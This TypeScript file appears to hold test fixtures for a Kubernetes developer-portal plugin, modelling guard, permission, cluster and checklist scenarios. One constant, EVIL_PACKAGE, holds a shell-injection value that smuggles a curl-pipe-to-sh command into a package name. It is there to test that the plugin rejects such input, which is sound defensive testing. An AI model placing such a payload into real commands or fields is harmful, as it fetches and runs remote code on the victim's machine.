import {
  devMessage,
  DevError,
  DevStatus,
  withoutCommandAdvice,
} from '@okteto-dev/plugin-okteto-dev-common';
import {
  APP_REF,
  APPLICATION,
  checkItem,
  devModeOn,
  devPod,
  HOUR,
  makeChecklist,
  makeStatus,
  minutesAgo,
  NAMESPACE,
  okWorkload,
  PACKAGE,
  WORKLOAD,
} from './builders';
import { withoutDevEntry } from './scenarioParts';
import { sessionScenarios } from './sessionScenarios';

/** A package name that is no npm package name (a catalog author's attempt at a shell command). */
export const EVIL_PACKAGE = 'x;curl${IFS}-s${IFS}evil.sh|sh;#';

/** A refused LIST as the backend answers it (`kube/errors.ts`), the permission parsed out. */
export const deploymentsRefused: DevError = {
  type: 'forbidden',
  statusCode: 403,
  cluster: 'default',
  resource: `deployments in ${NAMESPACE}`,
  message: `deployments in ${NAMESPACE}: HTTP 403, missing permission: list deployments.apps in namespace "${NAMESPACE}"`,
  permission: {
    verb: 'list',
    resource: 'deployments',
    group: 'apps',
    namespace: NAMESPACE,
  },
};

/** A cluster okteto-dev may not use (`ClusterUnusableError`): nothing is sent to it. */
export const clusterUnusable = (resource: string): DevError => ({
  type: 'unusable',
  cluster: 'default',
  resource,
  message:
    "Cluster 'default' cannot be used: its url is plain http://, so credentials and answers would travel unencrypted; use https, or set dangerouslyAllowPlainHttp: true on oktetoDev.clusters[0]",
});

const unusableApps = clusterUnusable(`applications.argoproj.io in argo`);
const unusableDeployments = clusterUnusable(`deployments in ${NAMESPACE}`);

/**
 * Answers at the limits of what okteto-dev offers: commands withheld by the target guard, values
 * that failed their check, permissions missing, clusters it may not use, checklist items
 * switched off, StatefulSet targets, the package manager, live mode.
 */
export const limitScenarios = {
  /** A conflict whose Application deploys elsewhere: the guard withholds every command. */
  guardedConflict: ((): DevStatus => {
    const { commands: _withheld, ...status } =
      sessionScenarios.conflictAutoSync;
    return {
      ...status,
      drift: withoutCommandAdvice(status.drift),
      guard: [
        devMessage('guardDestinationNamespace', {
          application: APP_REF,
          destination: 'shop-production',
          namespace: NAMESPACE,
        }),
      ],
    };
  })(),

  /** The package name from package.json failed its check: okteto up and down, no dev command. */
  packageInvalid: ((): DevStatus => {
    const base = withoutDevEntry();
    return {
      ...base,
      target: {
        ...base.target,
        package: EVIL_PACKAGE,
        sources: { ...base.target.sources, package: 'package-json' },
      },
      commands: { ...base.commands!, dev: undefined },
      guard: [
        devMessage('commandPackageInvalid', {
          value: EVIL_PACKAGE,
          source: 'apps/corporate-website/package.json',
        }),
      ],
    };
  })(),

  /** No dev entry yet; the repository's yarn.lock says yarn. */
  packageManagerYarn: ((): DevStatus => {
    const base = withoutDevEntry();
    return {
      ...base,
      target: {
        ...base.target,
        packageManager: { name: 'yarn', source: 'lockfile', file: 'yarn.lock' },
        notes: [
          devMessage('packageManagerLockfile', {
            manager: 'yarn',
            path: 'yarn.lock',
          }),
        ],
      },
      commands: { ...base.commands!, dev: `yarn workspace ${PACKAGE} dev` },
    };
  })(),

  /** A StatefulSet dev target in dev mode. */
  statefulSet: makeStatus({
    workload: okWorkload({
      kind: 'StatefulSet',
      replicas: 0,
      readyReplicas: 0,
      pods: [],
    }),
    okteto: devModeOn(HOUR, {
      pods: [devPod({ name: `${WORKLOAD}-okteto-0` })],
    }),
    drift: {
      kind: 'expected-okteto',
      resources: [],
      ...devMessage('driftExpected', {
        workload: WORKLOAD,
        clone: `${WORKLOAD}-okteto`,
      }),
    },
  }),

  /** okteto-dev's service account may not list Deployments in the dev namespace. */
  permissionMissing: makeStatus({
    workload: { state: 'error', error: deploymentsRefused },
    okteto: { state: 'error', error: deploymentsRefused },
    drift: {
      kind: 'unknown',
      resources: [],
      ...devMessage('driftUnknownOktetoError'),
    },
    checklist: makeChecklist(
      ...(['env-var', 'env-secret'] as const).map(id =>
        checkItem(id, 'unknown', 'checkWorkloadUnreadable', {
          error: deploymentsRefused.message,
        }),
      ),
    ),
    errors: [deploymentsRefused],
  }),

  /** The entity's cluster is configured over plain http without the opt-in: nothing is read. */
  clusterUnusable: makeStatus({
    argo: { state: 'error', error: unusableApps },
    workload: { state: 'error', error: unusableDeployments },
    okteto: { state: 'error', error: unusableDeployments },
    drift: {
      kind: 'unknown',
      resources: [],
      ...devMessage('driftUnknownArgoError'),
    },
    checklist: makeChecklist(
      ...(
        [
          'argo-application',
          'namespace-convention',
          'self-heal-off',
          'replicas-ignored',
        ] as const
      ).map(id =>
        checkItem(id, 'unknown', 'checkArgoAppUnreadable', {
          application: APP_REF,
          error: unusableApps.message,
        }),
      ),
      ...(['env-var', 'env-secret'] as const).map(id =>
        checkItem(id, 'unknown', 'checkWorkloadUnreadable', {
          error: unusableDeployments.message,
        }),
      ),
    ),
    errors: [unusableApps, unusableDeployments],
  }),

  /** Two checklist items switched off in config (`oktetoDev.checklist.<id>.enabled: false`). */
  checklistOff: makeStatus({
    checklist: makeChecklist().filter(
      item => item.id !== 'replicas-ignored' && item.id !== 'dev-image',
    ),
    checklistOff: ['replicas-ignored', 'dev-image'],
  }),

  /** saas: no Application yet, its pod waits for the env Secret nobody created. */
  secretMissing: makeStatus({
    argo: { state: 'not-found' },
    workload: okWorkload({
      readyReplicas: 0,
      pods: [
        {
          name: `${WORKLOAD}-6b7c8d9f5-h4j6k`,
          phase: 'Pending',
          ready: false,
          restarts: 0,
          reason: 'CreateContainerConfigError',
        },
      ],
    }),
    drift: {
      kind: 'unknown',
      resources: [],
      ...devMessage('driftUnknownArgoMissing'),
    },
    checklist: makeChecklist(
      checkItem('argo-application', 'fail', 'checkArgoAppMissing', {
        application: APP_REF,
      }),
      ...(
        ['namespace-convention', 'self-heal-off', 'replicas-ignored'] as const
      ).map(id =>
        checkItem(id, 'unknown', 'checkArgoAppMissing', {
          application: APP_REF,
        }),
      ),
      checkItem('env-secret', 'fail', 'checkSecretMissingFromPod', {
        secret: `${APPLICATION}-env`,
        namespace: NAMESPACE,
        container: 'app',
        pod: `${WORKLOAD}-6b7c8d9f5-h4j6k`,
        message: `secret "${APPLICATION}-env" not found`,
      }),
    ),
  }),

  /** Live mode: the status is pushed as it changes. */
  liveWatch: makeStatus({
    live: {
      mode: 'watch',
      channel: 'okteto-dev:status:0123456789abcdef',
      renewAt: minutesAgo(-60),
    },
  }),

  /** Live mode, but this entity is read on each view: its watch is forbidden. */
  livePolling: makeStatus({
    live: {
      mode: 'polling',
      reason: `the watch is forbidden: pods in ${NAMESPACE}`,
    },
  }),
};
